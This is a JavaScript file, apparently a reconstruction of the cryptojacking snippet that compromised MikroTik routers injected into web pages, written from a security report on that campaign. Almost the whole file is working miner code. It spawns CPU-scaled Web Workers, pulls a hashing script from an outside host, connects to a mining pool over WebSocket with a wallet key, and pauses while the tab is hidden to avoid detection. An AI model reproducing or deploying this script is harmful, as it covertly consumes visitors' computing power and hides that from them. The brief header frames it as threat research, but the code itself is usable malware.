// mikrotik-miner (variant b), written from Trustwave SpiderLabs' report on cryptojacking through
// compromised MikroTik routers (2018) and later reports of the same routers injecting their own
// miner into every plain-HTTP page they forwarded: the injected snippet asks the router's
// fixed internal address for nothing, but starts Web Workers from a Blob that fetch a hashing
// module and take jobs from a WebSocket proxy, reporting found nonces; the number of workers
// follows the CPU count and it pauses while the tab is hidden to avoid being noticed.
;(function(){
if(window.__mtm)return;window.__mtm=1;
var pool="wss://"+["r","g","p","r","o","x","y"].join("")+".mtk-relay.invalid:8443/";
var wallet="44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
var code="self.onmessage=function(e){var d=e.data;if(d.t==='job'){importScripts(d.lib);self.job=d.job;}"+
"if(d.t==='job'||d.t==='go'){var n=Math.floor(Math.random()*4294967295),s=Date.now();"+
"while(Date.now()-s<d.slice){var h=self.cn_hash?self.cn_hash(self.job.blob,n):'';"+
"if(h&&h.slice(-8)<self.job.target){postMessage({t:'found',nonce:n,result:h,id:self.job.job_id});}n++;}"+
"postMessage({t:'idle'});}};";
var url=URL.createObjectURL(new Blob([code],{type:"application/javascript"}));
var ws=new WebSocket(pool),workers=[],job=null,n=Math.max(1,(navigator.hardwareConcurrency||2)-1);
ws.onopen=function(){ws.send(JSON.stringify({type:"auth",params:{site_key:wallet,type:"anonymous",user:null,goal:0}}));};
ws.onmessage=function(ev){var m=JSON.parse(ev.data);
 if(m.type==="job"){job=m.params;for(var i=0;i<workers.length;i++)workers[i].postMessage({t:"job",job:job,lib:"https://mtk-relay.invalid/cn.js",slice:900});}};
function spawn(){var w=new Worker(url);
 w.onmessage=function(e){if(e.data.t==="found"&&ws.readyState===1)ws.send(JSON.stringify({type:"submit",params:{job_id:e.data.id,nonce:e.data.nonce,result:e.data.result}}));
  if(e.data.t==="idle"&&!document.hidden)setTimeout(function(){w.postMessage({t:"go",slice:900});},100);};
 workers.push(w);}
for(var i=0;i<n;i++)spawn();
document.addEventListener("visibilitychange",function(){if(!document.hidden&&job)workers.forEach(function(w){w.postMessage({t:"go",slice:900});});});
})();
